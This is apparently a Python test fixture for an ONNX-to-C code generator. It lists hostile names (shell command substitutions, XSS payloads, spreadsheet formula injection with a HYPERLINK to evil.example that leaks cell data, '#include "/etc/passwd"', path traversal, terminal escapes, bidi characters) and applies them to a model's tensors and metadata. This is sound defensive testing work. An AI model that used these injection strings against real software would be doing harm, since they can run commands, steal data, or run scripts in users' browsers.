"""What strangers may call things: strings that C, shells, pages, tables or terminals could mistake."""

import re
from collections.abc import Sequence
from html.parser import HTMLParser

import onnx

NAMES: dict[str, str] = {
    "quotes": 'it\'s "quoted"',
    "a line break": "line\nbreak\r\n#error injected",
    "end of a comment": "*/ #error injected /*",
    "ends of comments": "*/" * 5_000,
    "line comment": "// line comment \\",
    "backslash newline": "spliced \\\n#error injected",
    "include": '#include "/etc/passwd"',
    "pragma": '_Pragma("GCC error \\"injected\\"")',
    "trigraphs": "??/ trigraph ??= <: :> ??/\n#error",
    "above": "../../outside",
    "absolute": "/absolute/path",
    "windows": "..\\..\\outside:stream",
    "unicode": "größe_π_模型_🙂",
    "right to left": "right\u202eto left\u2066\u2028",
    "zero width": "a\u200bb\ufeffc\u0301",
    "keyword": "int",
    "keyword of C++": "class",
    "another": "while",
    "macro": "NULL",
    "our function": "model_run",
    "our macro": "PINGPONNX_STEP",
    "format": "%s%n%p %1$*1$d",
    "shell": "$(touch x) `touch x` ${CMAKE} ;touch x|touch x&",
    "cmake": "${CMAKE_COMMAND} $<1:x> [[x]] #[[",
    "jinja": "{{ 7*7 }} {% raw %} {#",
    "html": "</script><script>alert(1)</script><img src=x onerror=alert(2)>",
    "html attribute": "' onmouseover='alert(1)' \" onload=\"alert(2)",
    "svg": "]]></svg><svg onload=alert(1)>",
    "entity": "&lt;script&gt; &amp;#60;",
    "markdown": "| x | [a](javascript:alert(1)) `b` **c**\n# d",
    "mention": "@everyone see https://evil.example www.evil.example #1",
    "formula": '=HYPERLINK("http://evil.example?"&A1,"x")',
    "formula with plus": "+1+cmd|' /C calc'!A0",
    "formula with minus": "-2+3",
    "formula with at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "json": '","model":"x","a":{"b":[1,2]},"\\u0000":"',
    "xml": "]]><failure/><!-- &xxe; ?>",
    "terminal": "\x1b[2J\x1b]0;owned\x07\x1b[31m\x9b31m",
    "rich": "[red]x[/red] [/] [link=file:///etc]y[/link]",
    "commands of CI": "::error file=x::injected",
    "carriage return": "hidden\rshown",
    "control": "\x01nul\x07bell\x7f\x85",
    "like a number": "9starts_with_a_digit",
    "like an option": "-rf",
    "nothing left": "___",
    "blank": "  ",
    "long": "x" * 10_000,
    "the same when safe": "a-b",
    "and again": "a.b",
    "and again with a space": "a b",
    "a call": '"); exit(1); //',
    "NUL": "x\x00y",
}
FILES: dict[str, bytes] = {
    "blanks": b"my nice model",
    "quotes": b'it\'s "mine"',
    "shell": b"$(touch owned);`touch owned`&",
    "newline": b"two\nlines",
    "dash": b"-rf",
    "option": b"--version",
    "percent": b"%s%n",
    "markup": b"[red]<b>",
    "terminal": b"\x1b[31mred",
    "not UTF-8": b"caf\xe9",
    "unicode": "größe\u202e模型".encode(),
    "equal sign": b"=1+1",
    "comma and colon": b"a,b:c=d",
    "hash and backslash": b"#a\\b",
}


def renamed(model: onnx.ModelProto, names: Sequence[str]) -> onnx.ModelProto:
    """All tensors and nodes called after hostile strings, each once more with a number where they run out.

    The model's other strings are hostile too.
    """
    new: dict[str, str] = {"": ""}

    def name(old: str) -> str:
        if old not in new:
            count = len(new) - 1
            new[old] = names[count % len(names)] + "'" * (count // len(names))
        return new[old]

    graph = model.graph
    for value in (*graph.input, *graph.output, *graph.value_info, *graph.initializer):
        value.name = name(value.name)
        value.doc_string = names[1]
    for node in graph.node:
        node.input[:] = [name(n) for n in node.input]
        node.output[:] = [name(n) for n in node.output]
        node.name = name(f"node {node.name}")
        node.doc_string = names[2]
    graph.name, graph.doc_string = names[0], names[3]
    model.producer_name, model.producer_version, model.domain, model.doc_string = names[4:8]
    model.metadata_props.add(key=names[8], value=names[9])
    return model


def without_comments(text: str) -> str:
    return re.sub(
        r"/\*.*?\*/|^#(?! *(?:include|define|if|else|elif|endif|ifndef|ifdef|undef|error|pragma)).*$",
        "",
        text,
        flags=re.S | re.M,
    )


class Skeleton(HTMLParser):
    """The elements of a page with the names of their attributes, and what scripts run."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, ...]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, *(name for name, _ in attributes)))

    def handle_endtag(self, tag: str) -> None:
        self.found.append((f"/{tag}",))

    def handle_comment(self, data: str) -> None:
        self.found.append(("comment",))
